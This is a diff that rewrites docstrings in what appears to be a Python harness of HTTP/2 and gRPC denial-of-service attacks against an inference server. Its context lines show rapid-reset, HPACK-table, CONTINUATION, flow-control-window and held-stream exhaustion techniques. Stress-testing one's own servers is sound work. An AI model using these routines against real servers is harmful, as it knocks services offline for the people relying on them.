@@ -43,7 +43,7 @@ REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
 
 
 def same(frame: bytes, opening: bytes = b"") -> Callable[[Target], int]:
-    """One frame again and again."""
+    """Returns an attack that sends one frame again and again."""
     return lambda target: target.flood(
         HTTP2_PREFACE + opening, lambda: itertools.repeat(frame * TURN), TURN
     )
@@ -56,7 +56,7 @@ def each_stream(
     read: bool = True,
     turn: int = 50,
 ) -> Callable[[Target], int]:
-    """The same on one stream after the other."""
+    """Returns an attack that sends the same on one stream after the other."""
 
     def pieces() -> Iterator[bytes]:
         numbers = streams()
@@ -79,7 +79,7 @@ def rapid_reset_of_calls(stream: int) -> bytes:
 
 
 def made_you_reset(stream: int) -> bytes:
-    """What makes the server reset streams that it has begun to work on."""
+    """Returns frames that make the server reset a stream that it has begun to work on."""
     return call(stream, ROW_OF_WIDE) + http2_frame(WINDOW, 0, stream, bytes(4))
 
 
@@ -97,7 +97,7 @@ def empty_continuations(target: Target) -> int:
 
 
 def references(target: Target) -> int:
-    """16,000 references to a field of 3.9 KB in each head."""
+    """Sends 16,000 references to a field of 3.9 KB in each head."""
     large = http2_frame(HEADERS, 5, 1, fields("/") + literal("x", "a" * 3900, keep=True))
 
     def heads() -> Iterable[bytes]:
@@ -108,18 +108,18 @@ def references(target: Target) -> int:
 
 
 def table_sizes(stream: int) -> bytes:
-    """A table that grows and shrinks, RFC 7541 section 6.3."""
+    """Returns a head that grows and shrinks the table, RFC 7541 section 6.3."""
     return http2_frame(HEADERS, 5, stream, b"\x20\x3f\xe1\x1f" + fields("/v2/health/live"))
 
 
 def kept_fields(stream: int) -> bytes:
-    """Fields for the table, each of which pushes others out."""
+    """Returns a head that adds fields to the table, each of which evicts others."""
     kept = b"".join(literal(f"x-{stream}-{number}", "v" * 50, keep=True) for number in range(20))
     return http2_frame(HEADERS, 5, stream, fields("/v2/health/live") + kept)
 
 
 def zero_window(target: Target) -> int:
-    """Answers of 1 MB that may not be sent."""
+    """Requests answers of 1 MB and does not let them be sent."""
     calls = b"".join(call(stream, ROW_OF_WIDE) for stream in itertools.islice(streams(), 200))
     held = []
     for peer in target.connections(10):
@@ -133,7 +133,7 @@ def zero_window(target: Target) -> int:
 
 
 def small_windows(target: Target) -> int:
-    """One byte of each answer at a time."""
+    """Lets one byte of each answer be sent at a time."""
     calls = b"".join(call(stream, ROW_OF_WIDE) for stream in itertools.islice(streams(), 100))
     one = struct.pack(">I", 1)
     windows = b"".join(
@@ -143,7 +143,7 @@ def small_windows(target: Target) -> int:
 
 
 def window_changes(target: Target) -> int:
-    """The windows of all streams grow and shrink."""
+    """Grows and shrinks the windows of all streams."""
     calls = b"".join(call(stream, ROW_OF_WIDE) for stream in itertools.islice(streams(), 500))
     changes = [
         http2_frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, size))
@@ -155,7 +155,7 @@ def window_changes(target: Target) -> int:
 
 
 def kept_streams(target: Target) -> int:
-    """1000 streams with large heads at once, then silence."""
+    """Opens 1000 streams with large heads at once, then is silent."""
     more = [(f"x-{number}", "v" * 1000) for number in range(14)]
     head = fields("/v2/health/live", more=more)
     numbers = list(itertools.islice(streams(), 1000))
@@ -174,7 +174,7 @@ def kept_streams(target: Target) -> int:
 
 
 def half_calls(target: Target) -> int:
-    """Half a message on each of 1000 streams, on several connections."""
+    """Sends half a message on each of 1000 streams, on several connections."""
     half = message(bytes(60_000))[:30_000]
     held = []
     for peer in target.connections(20):
@@ -191,7 +191,7 @@ def half_calls(target: Target) -> int:
 
 
 def health_watches(target: Target) -> int:
-    """Calls that the server holds open."""
+    """Makes calls that the server holds open."""
     watch = "/grpc.health.v1.Health/Watch"
     calls = b"".join(call(stream, b"", watch) for stream in itertools.islice(streams(), 1000))
     held = []
@@ -206,7 +206,7 @@ def health_watches(target: Target) -> int:
 
 
 def reflection(stream: int) -> bytes:
-    """All that reflection knows, asked for by file: 3 of ServerReflectionRequest."""
+    """Returns a request for all that reflection knows, by file: 3 of ServerReflectionRequest."""
     symbol = b"\x22\x20" + b"inference.GRPCInferenceService"[:30].ljust(32, b"x")
     body = b"".join(message(ask) for ask in (b"\x3a\0", symbol, b"\x1a\x0agrpc.proto"))
     head = http2_frame(HEADERS, END_HEADERS, stream, grpc_fields(REFLECT))
@@ -214,7 +214,7 @@ def reflection(stream: int) -> bytes:
 
 
 def streamed_calls(target: Target) -> int:
-    """Messages on one ModelStreamInfer, whose answers of 1 MB nobody reads."""
+    """Sends messages on one ModelStreamInfer, and reads none of the answers of 1 MB."""
     head = grpc_fields("/inference.GRPCInferenceService/ModelStreamInfer")
     opening = HTTP2_PREFACE + http2_frame(HEADERS, END_HEADERS, 1, head)
     piece = data_frames(1, message(ROW_OF_WIDE), end=False)
